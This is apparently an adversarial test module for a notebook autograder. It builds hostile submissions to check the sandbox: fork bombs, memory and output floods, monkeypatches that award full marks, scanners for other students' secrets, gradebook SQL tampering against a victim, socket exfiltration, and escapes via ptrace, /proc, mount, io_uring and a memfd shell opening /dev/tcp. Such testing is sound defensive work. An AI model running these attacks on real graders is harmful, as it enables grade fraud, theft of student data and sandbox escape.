"""The attacks: each builds a part of one hostile submission from the run's ``Context``.

Three sorts, named in ``kinds.yaml``: ``CELLS`` (the source of one code cell, placed in a
sample notebook), ``EDITS`` (a change to the sample's notebook) and ``BUILDERS`` (the whole
submission folder). Attack code keeps the test machine safe even if a limit fails: at most
3 GB of memory, 1000 forks, 100 MB of output, and every process it starts ends by itself.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from textwrap import dedent

import nbformat

from .model import (
    ANSWERS,
    ASSIGNMENT,
    CANARY_PATTERN,
    NOTEBOOK,
    POINTS,
    SECRET_FILE,
    VICTIM,
    Context,
)
from .notebooks import (
    SETUP,
    base_notebook,
    cell_index,
    insert_cell,
    nbgrader_meta,
    position,
    save_notebook,
)


# -- attack code (each a function of the context: the source of one cell) ---------------
def _name_me(context: Context, tag: str) -> str:
    """Source that names the current process (so leftover_processes can find it)."""
    name = context.process_name(tag).encode()
    return f"__import__('ctypes').CDLL(None).prctl(15, {name!r}, 0, 0, 0)"


def plain_loop(context: Context) -> str:
    return "while True:\n    pass\n"


def swallowing_loop(context: Context) -> str:
    return """
        import time
        while True:  # ignores every exception, the cell's time limit included
            try:
                time.sleep(0.1)
            except BaseException:
                pass
        """


def memory_hog(context: Context) -> str:
    return """
        import time
        blocks = []
        for _ in range(30):  # guard: 3 GB at most, should the memory limit fail
            blocks.append(b"\\x01" * (100 * 2**20))  # 100 MB, written: resident memory
            time.sleep(0.05)
        while True:  # and hold it
            time.sleep(1)
        """


def fork_bomb(context: Context) -> str:
    return f"""
        import os, time
        forks = 0
        while forks < 1000:  # guard: a bounded bomb, should the process limit fail
            if os.fork() == 0:  # a child: name itself, sleep, end (never runs the loop)
                try:
                    {_name_me(context, "fork")}
                    time.sleep(180)
                finally:
                    os._exit(0)
            forks += 1
        """


def stdout_flood(context: Context) -> str:
    return """
        chunk = "x" * 2**20
        for _ in range(100):  # 100 MB through print
            print(chunk)
        """


def fd_flood(context: Context) -> str:
    return """
        import os
        chunk = b"y" * 2**20
        for _ in range(50):  # 50 MB to each of fd 1 and fd 2, past sys.stdout/stderr
            os.write(1, chunk)
            os.write(2, chunk)
        """


def _stderr_thread(context: Context) -> str:
    return f"""
        import os, sys, threading, time

        def noise():  # keeps writing to stderr while the test cells run
            {_name_me(context, "thr")}
            end = time.time() + 30
            while time.time() < end:
                print("warning: noise from a thread", file=sys.stderr)
                os.write(2, b"noise on fd 2\\n")
                time.sleep(0.05)

        threading.Thread(target=noise, daemon=True).start()
        print("UserWarning: something on stderr", file=sys.stderr)
        """


def stderr_everywhere(folder: Path, context: Context) -> None:
    nb = base_notebook("ada", folder)
    for grade_id in ("answer-" + q for q in POINTS):
        cell = nb.cells[cell_index(nb, grade_id)]
        cell.source = "import sys\nprint('noise', file=sys.stderr)\n" + cell.source
    insert_cell(nb, position(nb, SETUP), _stderr_thread(context))
    save_notebook(nb, folder)


def sys_exit(context: Context) -> str:
    return "import sys\nsys.exit('bye')\n"


def os_exit(context: Context) -> str:
    return "import os\nos._exit(1)\n"


def kill_self(context: Context) -> str:
    return "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"


def sleepers(context: Context) -> str:
    return f"""
        import os, subprocess, sys
        sleep = [sys.executable, "-c", "import time; time.sleep(600)", {context.marker!r}]
        subprocess.Popen(sleep)  # a child in the kernel's session
        subprocess.Popen(sleep, start_new_session=True)  # one in a session of its own
        middle = os.fork()
        if middle == 0:  # a daemon: double fork, new session, exec
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, sleep)
            os._exit(0)
        os.waitpid(middle, 0)
        """


_SAVE_Z = f"""
    from encoder_kit.questions.files.answers_file import save_answer
    POINTS = {POINTS!r}
    for question_id in POINTS:  # something to grade: "z" is no right answer anywhere
        save_answer(question_id, "z", kind="choice")
    """


def patch_grade_cell(context: Context) -> str:
    return _SAVE_Z + """
    import autograder.course as course
    import autograder.course.notebook.student as student
    import autograder.course.notebook.testcell as testcell

    def grade_cell(question_id, *args, **kwargs):
        return POINTS[question_id]

    def check_answered(question_id):
        print("answered")

    course.grade_cell = testcell.grade_cell = grade_cell
    course.check_answered = student.check_answered = check_answered
    """


def patch_autograder(context: Context) -> str:
    return _SAVE_Z + """
    import importlib
    import autograder
    from autograder import Result

    grading = importlib.import_module("autograder.grade")

    def full_marks(question, answer=None, variant=None, *args, **kwargs):
        return Result(score=1.0, max_points=question.points, feedback="Correct.")

    def check(question_id, answer=None, **kwargs):
        return POINTS[question_id]

    autograder.check = grading.check = check
    autograder.grade = grading.grade = full_marks
    for kind in list(grading.GRADERS):  # a dict: data, not a function
        grading.GRADERS[kind] = full_marks
    """


def patch_find_question(context: Context) -> str:
    return _SAVE_Z + """
    import encoder_kit.questions as questions
    import encoder_kit.questions.files.loader as loader

    original = questions.find_question
    template = original("hw1-choice-two-stages")

    def find_question(question_id, *args, **kwargs):
        if question_id not in POINTS:
            return original(question_id, *args, **kwargs)
        option = template.options[0].model_copy(update={"id": "z", "correct": True})
        return template.model_copy(update={"id": question_id, "options": [option],
                                           "points": POINTS[question_id]})

    questions.find_question = loader.find_question = find_question
    """


def patch_builtins(context: Context) -> str:
    return _SAVE_Z + """
    import builtins, types

    real_import = builtins.__import__
    fake = types.ModuleType("autograder.course")
    fake.grade_cell = lambda question_id, *args, **kwargs: POINTS[question_id]

    def sneaky_import(name, globals=None, locals=None, fromlist=(), level=0):
        if name == "autograder.course" and fromlist and "grade_cell" in fromlist:
            return fake
        return real_import(name, globals, locals, fromlist, level)

    builtins.__import__ = sneaky_import
    """


def patch_sys_modules(context: Context) -> str:
    return _SAVE_Z + """
    import sys, types

    fake = types.ModuleType("autograder.course")
    fake.__path__ = []
    fake.grade_cell = lambda question_id, *args, **kwargs: POINTS[question_id]
    fake.check_answered = lambda question_id: None
    sys.modules["autograder.course"] = fake
    """


def patch_ipython(context: Context) -> str:
    return _SAVE_Z + """
    import re

    def rewrite(lines):  # runs on every later cell's source, test cells included
        found = re.search(r'grade_cell\\("([^"]+)"\\)', "".join(lines))
        return [repr(POINTS[found.group(1)]) + "\\n"] if found else lines

    get_ipython().input_transformers_post.append(rewrite)
    """


def _scanner(context: Context, targets: str) -> str:
    """Source that reads ``targets`` (files and folders, an expression) and prints every
    secret it finds, also into loot.txt beside the notebook."""
    return f"""
        import glob, os, re
        from pathlib import Path

        ROOT = Path({str(context.root)!r})  # known: a shared hub's course path
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        PATTERN = re.compile(rb"{CANARY_PATTERN}")
        found, seen = set(), [0]

        def scan(path):
            try:
                if path.is_file() and path.stat().st_size < 50 * 2**20:
                    found.update(m.decode() for m in PATTERN.findall(path.read_bytes()))
            except OSError:
                pass

        def walk(top):
            for folder, _, files in os.walk(top):
                for name in files:
                    seen[0] += 1
                    if seen[0] > 20000:
                        return
                    scan(Path(folder) / name)

        for target in {targets}:
            target = Path(target)
            walk(target) if target.is_dir() else scan(target)
        print("found:", sorted(found))
        Path("loot.txt").write_text("\\n".join(sorted(found)))
        """


def read_other_students(context: Context) -> str:
    return _scanner(context, "[ROOT / 'submitted', ROOT / 'autograded', "
                             "*Path.cwd().parents[:5], *glob.glob('/tmp/encoder-kit-*')]")


def read_gradebook(context: Context) -> str:
    return _scanner(context, "[ROOT / 'gradebook.db', Path('../../../gradebook.db'), "
                             "*[h.parent / 'gradebook.db' for h in HINTS], "
                             "*glob.glob('/tmp/encoder-kit-grade-*/*.db'), "
                             "*glob.glob('/tmp/encoder-kit-grade-*/*/course/gradebook.db')]")


def read_course(context: Context) -> str:
    return _scanner(context, "[ROOT, *[h.parent for h in HINTS]]")


def read_hidden(context: Context) -> str:
    return """
        import os
        from pathlib import Path

        for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH"):
            for folder in filter(None, os.environ.get(name, "").split(os.pathsep)):
                for path in sorted(Path(folder).glob("*"))[:20]:
                    try:
                        print(path, path.read_text()[:200])
                    except OSError as error:
                        print(path, "not readable:", error)
        """


def tamper_gradebook(context: Context) -> str:
    return f"""
        import glob, os, sqlite3, sys, time
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        ME = os.environ.get("ENCODER_KIT_STUDENT", "write-gradebook")
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        TARGETS = [ROOT / "gradebook.db", Path("../../../gradebook.db").resolve(),
                   *[h.parent / "gradebook.db" for h in HINTS],
                   *map(Path, glob.glob("/tmp/encoder-kit-grade-*/*.db")),
                   *map(Path, glob.glob("/tmp/encoder-kit-grade-*/*/course/gradebook.db"))]
        TARGETS = [path for path in TARGETS if path.is_file()]  # sqlite would create the rest
        OF = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
              "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")

        def tamper(path, say=True):
            try:
                con = sqlite3.connect(str(path), timeout=0.5)
                con.execute(f"UPDATE grade SET extra_credit = 8, manual_score = "
                            f"(SELECT max_score FROM grade_cells WHERE id = grade.cell_id) "
                            f"WHERE notebook_id IN ({{OF}})", (ME,))
                con.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({{OF}})",
                            ({VICTIM!r},))
                con.execute("UPDATE student SET first_name = 'pwned' WHERE id = ?",
                            ({VICTIM!r},))
                con.commit()
                con.close()
                if say:
                    print("changed", path)
            except Exception as error:
                if say:
                    print("not changed:", path, type(error).__name__, error)

        for path in TARGETS:
            tamper(path)
        middle = os.fork()
        if middle == 0:  # a daemon that keeps at it while the batch goes on
            os.setsid()
            if os.fork() == 0:
                try:
                    {_name_me(context, "gbw")}
                    end = time.time() + 60
                    while time.time() < end:
                        for path in TARGETS:
                            tamper(path, say=False)
                        time.sleep(0.2)
                finally:
                    os._exit(0)
            os._exit(0)
        os.waitpid(middle, 0)
        """


def write_course_files(context: Context) -> str:
    return f"""
        import os
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        WRITES = [ROOT / "PWNED.txt", ROOT / "source" / "{ASSIGNMENT}" / "pwned.txt",
                  Path("../../../source/{ASSIGNMENT}/pwned-relative.txt"),
                  Path("../../../PWNED-relative.txt"),
                  ROOT / "autograded" / {VICTIM!r} / "{ASSIGNMENT}" / "pwned.txt",
                  *[h / "pwned.txt" for h in HINTS]]
        for path in WRITES:
            try:
                path.write_text("pwned")
                print("wrote", path)
            except OSError as error:
                print("could not write", path, error)
        for path in (ROOT / "nbgrader_config.py", ROOT / "release" / "{ASSIGNMENT}" / "{NOTEBOOK}"):
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# pwned\\n")
                print("appended to", path)
            except OSError as error:
                print("could not append to", path, error)
        """


def write_other_submission(context: Context) -> str:
    return f"""
        import shutil
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        for victim in (ROOT / "submitted" / {VICTIM!r} / "{ASSIGNMENT}",
                       Path("../../../submitted/{VICTIM}/{ASSIGNMENT}")):
            try:
                shutil.copy("{NOTEBOOK}", victim / "{NOTEBOOK}")  # my blank notebook
                (victim / "{ANSWERS}").write_text("{{}}")
                print("overwrote", victim)
            except OSError as error:
                print("could not write", victim, error)
        """


def network(context: Context) -> str:
    return f"""
        import socket
        for address in (("127.0.0.1", {context.port}), ("localhost", {context.port})):
            try:
                with socket.create_connection(address, timeout=2) as connection:
                    connection.sendall(b"exfiltrated by a notebook")
                print("sent to", address)
            except OSError as error:
                print("no connection to", address, error)
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
            print("sent a datagram out")
        except OSError as error:
            print("no datagram:", error)
        """


# -- edits of cells and metadata ---------------------------------------------------------
def edit_test_cells(nb: nbformat.NotebookNode, context: Context) -> None:
    for question, points in POINTS.items():
        cell = nb.cells[cell_index(nb, f"test-{question}")]
        cell.metadata.nbgrader["locked"] = False
        cell.source = repr(points)  # the test now just returns its full points


def edit_setup_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells[cell_index(nb, "setup")]
    cell.source = cell.source + "\n" + dedent(patch_grade_cell(context))


def delete_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    del nb.cells[cell_index(nb, "test-hw1-order-encoder-steps")]


def strip_test_metadata(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells[cell_index(nb, "test-hw1-order-encoder-steps")]
    del cell.metadata["nbgrader"]
    cell.source = "print('tested')"


def move_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells.pop(cell_index(nb, "test-hw1-order-encoder-steps"))
    nb.cells.insert(cell_index(nb, "answer-hw1-order-encoder-steps"), cell)


def points_100(nb: nbformat.NotebookNode, context: Context) -> None:
    for question in POINTS:
        nbgrader_meta(nb, f"test-{question}")["points"] = 100.0


def grade_flag(nb: nbformat.NotebookNode, context: Context) -> None:
    nbgrader_meta(nb, "answer-hw1-order-encoder-steps").update(grade=True, points=100.0)


def changed_grade_id(nb: nbformat.NotebookNode, context: Context) -> None:
    nbgrader_meta(nb, "test-hw1-order-encoder-steps")["grade_id"] = "test-hw1-mine"


def checksums(nb: nbformat.NotebookNode, context: Context) -> None:
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and "checksum" in meta:
            meta["checksum"] = "0" * 32


def duplicate_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    index = cell_index(nb, "test-hw1-order-encoder-steps")
    twin = copy.deepcopy(nb.cells[index])
    twin["id"] = "hostile-twin"
    twin.source = "4.0"
    nb.cells.insert(index, twin)


# -- files beside the notebook -----------------------------------------------------------
def junk_answers(folder: Path, context: Context) -> None:
    base_notebook("cam", folder)
    forged = {"kind": "hacked", "variant": {"forged": True}, "attempts": -3, "score": 100,
              "saved_at": "2999-01-01T00:00:00Z"}
    answers = {
        "hw1-order-encoder-steps": {"answer": {"pieces": 1, "head": 7}},
        "hw1-choice-two-stages": {"answer": 12345},
        "hw1-numeric-special-tokens": {"answer": float("nan")},
        "hw1-choice-sentence-vector": {"answer": ["cls"] * 1000},
        "hw1-unknown": {"answer": 1e308},
    }
    data = {"format": "encoder-kit-answers", "version": 99, "grade": "A+", "answers": {
        question: {"question_id": question, **entry, **forged}
        for question, entry in answers.items()}}
    data["answers"]["hw1-numeric-special-tokens-inf"] = {"answer": float("inf")}
    (folder / ANSWERS).write_text(json.dumps(data))


def deep_answers(folder: Path, context: Context) -> None:
    base_notebook("cam", folder)
    depth = 100_000  # past Python's recursion limit: json.loads raises RecursionError
    entry = '{"question_id": "hw1-choice-two-stages", "answer": ' + "[" * depth + "]" * depth
    (folder / ANSWERS).write_text('{"format": "encoder-kit-answers", "version": 1, '
                                  '"answers": {"hw1-choice-two-stages": ' + entry + "}}}")


def symlinks(folder: Path, context: Context) -> None:
    base_notebook("cam", folder)
    submitted = context.root / "submitted"
    (folder / ANSWERS).symlink_to(submitted / "fay" / ASSIGNMENT / ANSWERS)  # 6 points there
    (folder / "notes.txt").symlink_to(submitted / VICTIM / ASSIGNMENT / SECRET_FILE)
    (folder / "gradebook.db").symlink_to(context.root / "gradebook.db")


def invalid_json(folder: Path, context: Context) -> None:
    base_notebook("ada", folder)
    text = (folder / NOTEBOOK).read_text()
    (folder / NOTEBOOK).write_text(text[: len(text) // 2])


def nbformat_3(folder: Path, context: Context) -> None:
    nb = base_notebook("ada", folder)
    (folder / NOTEBOOK).write_text(nbformat.writes(nbformat.convert(nb, 3), version=3))


def other_kernel(nb: nbformat.NotebookNode, context: Context) -> None:
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R", "version": "4.3.0"}



# -- attacks on the sandbox itself ---------------------------------------------------------
# Each cell tries one way out of the sandbox. Blocked, it prints why and the notebook goes
# on (8 points for ada). Should the attack work, the cell says BREACHED and ends the kernel
# at once, so the submission gets 6, not 8: the kind's exact score is the assertion.
def _breach_cell(body: str) -> str:
    """A cell running ``body`` (which sets ``breached``) and ending the kernel if it did."""
    inner = "\n".join("    " + line for line in dedent(body).strip().splitlines())
    return (
        "import ctypes, errno, os, sys\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "breached = False\n"
        "try:\n" + inner + "\n"
        "except Exception as error:  # blocked\n"
        "    print('blocked:', type(error).__name__, error)\n"
        "print('BREACHED' if breached else 'held')\n"
        "if breached:\n"
        "    sys.stdout.flush()\n"
        "    os._exit(0)\n")


SANDBOX_ATTACKS = {
    # ptrace the grader (the kernel's parent) and a sibling (a child of the kernel)
    "ptrace_grader": """
        grader = os.getppid()
        breached = libc.ptrace(16, grader, None, None) == 0  # PTRACE_ATTACH
        sibling = os.fork()
        if sibling == 0:
            import time
            time.sleep(30)
            os._exit(0)
        breached = breached or libc.ptrace(0x4206, sibling, None, None) == 0  # SEIZE
        os.kill(sibling, 9)
        os.waitpid(sibling, 0)
        """,
    "proc_mem_environ": """
        grader = os.getppid()
        for name in ("environ", "mem"):
            try:
                with open(f"/proc/{grader}/{name}", "rb") as handle:
                    data = handle.read(4096)
                breached = breached or bool(data)
            except OSError as error:
                print(name, error.strerror)
        """,
    "process_vm_readv": """
        class Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        buffer = ctypes.create_string_buffer(64)
        local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 64)
        remote = Iovec(0x400000, 64)
        got = libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1,
                                    ctypes.byref(remote), 1, 0)
        print("process_vm_readv:", got, os.strerror(ctypes.get_errno()))
        breached = got > 0 or ctypes.get_errno() not in (errno.EPERM, errno.ESRCH)
        """,
    "unshare_user": """
        got = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
        print("unshare:", got, os.strerror(ctypes.get_errno()))
        breached = got == 0
        """,
    "setns_saved": """
        for pid in (1, os.getppid()):
            try:
                fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            except OSError as error:
                print("open", pid, error.strerror)
                continue
            breached = breached or libc.setns(fd, 0) == 0
            print("setns:", os.strerror(ctypes.get_errno()))
        """,
    "mount_over_answers": """
        target = os.path.abspath("encoder-kit-answers.json").encode()
        fake = b"/tmp/fake-answers.json"
        open(fake, "w").write("{}")
        got = libc.mount(fake, target, None, 4096, None)  # MS_BIND
        got2 = libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
        print("mount:", got, got2, os.strerror(ctypes.get_errno()))
        breached = got == 0 or got2 == 0
        """,
    "io_uring_write": """
        params = ctypes.create_string_buffer(120)
        fd = libc.syscall(425, 8, params)  # io_uring_setup
        print("io_uring_setup:", fd, os.strerror(ctypes.get_errno()))
        breached = fd >= 0
        """,
    "memfd_exec": """
        import subprocess
        fd = os.memfd_create("tool", 0)
        os.write(fd, open("/bin/sh", "rb").read())
        shell = f"/proc/self/fd/{fd}"
        run = subprocess.run(
            [shell, "-c", "echo x > /etc/ekh-pwned && echo WROTE; "
                          "cat /proc/$PPID/environ >/dev/null 2>&1; "
                          "exec 3<>/dev/tcp/1.1.1.1/53 2>/dev/null && echo NET"],
            pass_fds=(fd,), capture_output=True, text=True, timeout=20)
        print("memfd shell:", run.returncode, run.stdout.strip(), run.stderr[-200:])
        breached = "WROTE" in run.stdout or "NET" in run.stdout
        """,
    "raw_netlink_socket": """
        import socket
        for family, kind, proto in ((socket.AF_NETLINK, socket.SOCK_RAW, 0),
                                    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                    (socket.AF_PACKET, socket.SOCK_RAW, 0),
                                    (socket.AF_INET, socket.SOCK_STREAM, 0)):
            try:
                socket.socket(family, kind, proto).close()
                print("opened", family)
                breached = True
            except OSError as error:
                print(family, error.strerror)
        """,
    "cache_hard_link": """
        cache = os.environ.get("ENCODER_KIT_CACHE") or os.path.expanduser(
            "~/.cache/encoder-kit")
        files = [os.path.join(root, name) for root, _, names in os.walk(cache)
                 for name in names][:1]
        for path in files:
            try:
                os.link(path, "cache-link")
                with open("cache-link", "ab") as handle:
                    handle.write(b"poison")
                breached = True
            except OSError as error:
                print("link:", error.strerror)
        print("cache files:", len(files))
        """,
    "fill_tmp_shm": """
        block = b"\\x00" * (8 * 2**20)
        for folder in ("/tmp", "/dev/shm"):
            written, paths = 0, []
            try:
                while written < 3 * 2**30:  # guard: 3 GB at most
                    paths.append(os.path.join(folder, f"filler-{len(paths)}"))
                    with open(paths[-1], "wb") as handle:  # files of 48 MB (the size cap)
                        for _ in range(6):
                            handle.write(block)
                            handle.flush()
                            written += len(block)
            except OSError as error:
                print(folder, "full at", written // 2**20, "MB:", error.strerror)
            finally:
                for path in paths:
                    if os.path.exists(path):
                        os.remove(path)
            breached = breached or written >= 3 * 2**30
        """,
}


def _sandbox_attack(name: str):
    def cell(context: Context) -> str:
        return _breach_cell(SANDBOX_ATTACKS[name])

    cell.__name__ = name
    return cell


ptrace_grader = _sandbox_attack("ptrace_grader")
proc_mem_environ = _sandbox_attack("proc_mem_environ")
process_vm_readv = _sandbox_attack("process_vm_readv")
unshare_user = _sandbox_attack("unshare_user")
setns_saved = _sandbox_attack("setns_saved")
mount_over_answers = _sandbox_attack("mount_over_answers")
io_uring_write = _sandbox_attack("io_uring_write")
memfd_exec = _sandbox_attack("memfd_exec")
raw_netlink_socket = _sandbox_attack("raw_netlink_socket")
cache_hard_link = _sandbox_attack("cache_hard_link")
fill_tmp_shm = _sandbox_attack("fill_tmp_shm")


def hold_pipe(context: Context) -> str:
    """A daemon that keeps every descriptor (the grader's pipe among them) and outlives
    the kernel, which then ends itself: the grader must not wait for the pipe to close."""
    return f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                {_name_me(context, "pipe")}
                time.sleep(120)
            os._exit(0)
        time.sleep(0.5)
        os._exit(0)
        """


def symlink_race(context: Context) -> str:
    """Put a link where the grader writes next (the graded notebook) to the course's
    source notebook, which the grader (not the kernel) can write."""
    source = context.root / "source" / ASSIGNMENT / NOTEBOOK
    return f"""
        import os
        for name, target in (({NOTEBOOK!r}, {str(source)!r}),):
            try:
                if os.path.lexists(name):
                    os.remove(name)
                os.symlink(target, name)
                print("linked", name)
            except OSError as error:
                print(name, error.strerror)
        """
